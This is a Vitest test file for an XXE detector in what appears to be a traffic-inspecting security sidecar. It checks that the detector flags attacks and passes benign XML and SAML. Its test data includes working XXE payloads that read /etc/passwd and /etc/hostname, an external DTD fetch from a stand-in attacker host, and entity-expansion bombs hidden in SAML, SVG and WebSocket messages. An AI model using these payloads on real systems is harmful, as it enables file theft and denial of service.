import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { ProtocolEvent } from '#sidecar/events.ts';
import { xmlExternalEntity } from '#sidecar/threats/xml-external-entity.ts';
import { httpRequest, runThreat } from './threat-factories.ts';

const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>';
const benignSaml =
  '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/></samlp:Response>';
const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
const post = (body: string, type: string) =>
  httpRequest('/api', { method: 'POST', headers: [['Content-Type', type]], body });
const evidence = (event: ProtocolEvent) => runThreat(xmlExternalEntity, [event])[0]?.evidence;

describe('xml-external-entity', () => {
  it('flags an XML body with an external entity, high severity, naming the URI', () => {
    const [hit] = runThreat(xmlExternalEntity, [post(xxe, 'application/xml')]);
    expect(hit).toMatchObject({ threat: 'xml-external-entity', severity: 'high' });
    expect(hit?.evidence).toContain('external entity &e → file:///etc/passwd — body: <?xml');
  });

  it('flags a SOAP request whose envelope is preceded by a DTD', () => {
    const soap = `<!DOCTYPE s [<!ENTITY % p SYSTEM "http://attacker.test/p.dtd"> %p;]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>`;
    expect(evidence(post(soap, 'text/xml; charset=utf-8'))).toContain('external entity %p');
  });

  it('flags an SVG upload in a multipart body', () => {
    const body = [
      '--b',
      'Content-Disposition: form-data; name="avatar"; filename="a.svg"',
      'Content-Type: image/svg+xml',
      '',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
      '--b--',
    ].join('\r\n');
    expect(evidence(post(body, 'multipart/form-data; boundary=b'))).toContain('file:///etc/hostname');
  });

  it('flags XXE inside a base64 SAMLResponse (POST binding)', () => {
    const body = form({ SAMLResponse: Buffer.from(xxe).toString('base64'), RelayState: '/home' });
    expect(evidence(post(body, 'application/x-www-form-urlencoded'))).toContain(
      'base64 XML: external entity &e',
    );
  });

  it('flags XXE inside a deflated, base64 SAMLRequest (redirect binding)', () => {
    const wrapped = deflateRawSync(Buffer.from(xxe)).toString('base64');
    expect(evidence(httpRequest(`/sso?${form({ SAMLRequest: wrapped })}`))).toContain(
      'base64 XML: external entity',
    );
  });

  it('flags a WebSocket message carrying an entity bomb', () => {
    const bomb = `<!DOCTYPE b [<!ENTITY a "${'x'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(200)}">]><b>&b;</b>`;
    const message: ProtocolEvent = {
      kind: 'websocket-message',
      ts: 1,
      direction: 'to-server',
      opcode: 'text',
      length: bomb.length,
      compressed: false,
      text: bomb,
    };
    expect(evidence(message)).toContain('entity expansion bomb: &b; expands to 200,000 characters');
  });

  it.each([
    [
      'a benign SAMLResponse',
      post(
        form({ SAMLResponse: Buffer.from(benignSaml).toString('base64') }),
        'application/x-www-form-urlencoded',
      ),
    ],
    [
      'a base64 cookie that is not XML',
      httpRequest('/', { headers: [['Cookie', `s=${Buffer.from('x'.repeat(90)).toString('base64')}`]] }),
    ],
    [
      'an XHTML page posted to a CMS',
      post(
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
        'text/html',
      ),
    ],
    [
      'an escaped declaration in a form (text about XML)',
      post(form({ text: '&lt;!ENTITY e SYSTEM "file:///x"&gt;' }), 'application/x-www-form-urlencoded'),
    ],
    [
      'a double-encoded declaration in a query (no XML parser decodes it)',
      httpRequest(`/q?x=${encodeURIComponent(encodeURIComponent(xxe))}`),
    ],
  ])('does not flag %s', (_name, event) => {
    expect(runThreat(xmlExternalEntity, [event])).toEqual([]);
  });

  it('judges only what clients send', () => {
    const response = { ...post(xxe, 'application/xml'), direction: 'to-client' as const };
    expect(runThreat(xmlExternalEntity, [response])).toEqual([]);
  });

  it('leaves inputs its policy ignores', () => {
    const event = post(xxe, 'application/xml');
    expect(runThreat(xmlExternalEntity, [event], { config: { ignore: ['body'] } })).toEqual([]);
  });
});

describe('xml-external-entity: declarations and padding before the one that fetches (ADR 36)', () => {
  const harmless = (count: number) => Array.from({ length: count }, (_, i) => `<!ENTITY a${i} "x">`).join('');
  const external = '<!ENTITY x SYSTEM "file:///etc/passwd">';

  it('names an external entity declared after 64 harmless ones, not the first of them', () => {
    // The first 64 declarations were read: the report was the inline probe, the fetch unnamed.
    const body = `<?xml version="1.0"?><!DOCTYPE r [${harmless(64)}${external}]><r>&x;</r>`;
    expect(evidence(post(body, 'application/xml'))).toMatch(
      /^external entity &x → file:\/\/\/etc\/passwd — /,
    );
  });

  it('names a bomb declared after 64 harmless entities', () => {
    const bomb = `<!ENTITY b0 "${'x'.repeat(1000)}"><!ENTITY b1 "${'&b0;'.repeat(200)}">`;
    const body = `<!DOCTYPE r [${harmless(64)}${bomb}]><r>&b1;</r>`;
    expect(evidence(post(body, 'application/xml'))).toMatch(/^entity expansion bomb: &b1;/);
  });

  it('reads a deflated SAML message to its end: an external entity after 70 KB of comments', () => {
    const padded = `<?xml version="1.0"?><!DOCTYPE r [<!-- ${'x'.repeat(70_000)} -->${external}]><r>&x;</r>`;
    const wrapped = deflateRawSync(Buffer.from(padded)).toString('base64');
    expect(evidence(httpRequest(`/sso?${form({ SAMLRequest: wrapped })}`))).toMatch(
      /^base64 XML: external entity &x → file:\/\/\/etc\/passwd/,
    );
  });

  it('reports a SAML message that inflates past what is read, rather than passing it', () => {
    const padded = `<?xml version="1.0"?><!DOCTYPE r [<!-- ${'x'.repeat(300_000)} -->${external}]><r>&x;</r>`;
    const wrapped = deflateRawSync(Buffer.from(padded)).toString('base64');
    expect(evidence(httpRequest(`/sso?${form({ SAMLRequest: wrapped })}`))).toMatch(
      /^SAML message inflating past 256 KiB \(not read to its end\)/,
    );
  });

  it('leaves a SAML message of 200 harmless attributes, and a deflated one, alone', () => {
    const attributes = Array.from(
      { length: 200 },
      (_, i) =>
        `<saml:Attribute Name="a${i}"><saml:AttributeValue>v${i}</saml:AttributeValue></saml:Attribute>`,
    ).join('');
    const saml = benignSaml.replace(
      '<saml:Assertion',
      `<saml:Assertion>${attributes}</saml:Assertion><saml:Assertion`,
    );
    expect(
      runThreat(xmlExternalEntity, [
        post(
          form({ SAMLResponse: Buffer.from(saml).toString('base64') }),
          'application/x-www-form-urlencoded',
        ),
      ]),
    ).toEqual([]);
    const wrapped = deflateRawSync(Buffer.from(saml)).toString('base64');
    expect(runThreat(xmlExternalEntity, [httpRequest(`/sso?${form({ SAMLRequest: wrapped })}`)])).toEqual([]);
  });
});
